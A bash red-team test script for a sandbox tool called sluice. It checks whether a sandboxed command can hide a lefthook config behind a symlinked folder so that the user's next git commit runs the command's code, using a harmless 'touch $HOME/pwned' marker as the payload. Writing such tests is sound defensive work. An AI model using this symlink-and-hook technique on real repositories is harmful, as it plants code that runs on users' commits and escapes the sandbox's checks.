#!/usr/bin/env bash
# red team 46, hole 6: the check after a run for protected files the run
# created skips an entry's folder that is a symlink (open_folder's
# O_NOFOLLOW, ELOOP taken as "no folder"): .config -> .cfg with
# .cfg/lefthook-local.yml; lefthook follows the link, and the user's next
# git commit runs the command's code. Needs lefthook (third_party/hook-managers).
# usage: 46-protect-symlink-folder.sh /path/to/sluice /path/to/lefthook
set -u
S=${1:?path to sluice}
export LEFTHOOK_BIN=${2:?path to lefthook}
base=$(mktemp -d /var/tmp/rt46-protect.XXXXXX) || exit 1
trap 'rm -rf "$base"' EXIT
export HOME=$base/home
mkdir -p "$HOME"
git config --global user.name t; git config --global user.email t@example.invalid
P=$HOME/proj
mkdir -p "$P" && cd "$P" && git init -q && echo a >README &&
  printf 'pre-commit:\n  commands:\n    fine:\n      run: "true"\n' >lefthook.yml &&
  "$LEFTHOOK_BIN" install >/dev/null 2>&1 && git add -A && git commit -qm a || exit 1
"$S" run -C "$P" -- 'mkdir -p .cfg && printf "pre-commit:\n  commands:\n    evil:\n      run: touch \$HOME/pwned\n" >.cfg/lefthook-local.yml && ln -s .cfg .config' | tail -1
echo c >>README && git add README && git commit -qm outside >/dev/null 2>&1 </dev/null
if [ -e "$HOME/pwned" ]; then echo "HOLE: the user's git commit ran the command's lefthook command"; exit 1; fi
echo stopped; exit 0
